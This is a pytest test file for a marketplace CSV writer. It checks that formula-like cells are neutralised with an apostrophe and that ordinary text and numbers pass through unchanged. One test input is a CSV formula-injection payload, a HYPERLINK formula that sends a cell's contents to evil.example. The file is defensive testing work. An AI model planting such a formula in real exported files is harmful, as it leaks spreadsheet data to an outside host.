"""marketplace.csv_writer: the one CSV writer neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from marketplace.csv_writer import csv_chunks, csv_text, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
        "+84912345678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # spaces first: still neutralised
        "＝1+1",  # full-width equals sign
        "-150000",  # a number typed as text by a person is text
    ],
)
def test_formula_starts_are_written_as_text(value):
    assert safe_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text(["a"], [[value]]).lstrip("\ufeff"), newline="")))
    assert rows == [["a"], ["'" + value]]


@pytest.mark.parametrize("value", ["Cam bù Hương Sơn", "0912345678", "a=b", "", "Trần Thị Bình - Hà Tĩnh"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_we_write_stay_numbers():
    assert safe_cell(-150_000) == -150_000 and safe_cell(0) == 0
    assert safe_cell(None) == "" and safe_cell(True) == "True"
    text = csv_text(["amount_vnd"], [[-150_000], [325_000]])
    assert text == "\ufeffamount_vnd\r\n-150000\r\n325000\r\n"


def test_streamed_chunks_make_the_same_document():
    rows = [[i, f"=x{i}", "Hương Sơn"] for i in range(5000)]
    chunks = list(csv_chunks(["n", "f", "t"], rows))
    assert len(chunks) > 1
    assert "".join(chunks) == csv_text(["n", "f", "t"], rows)
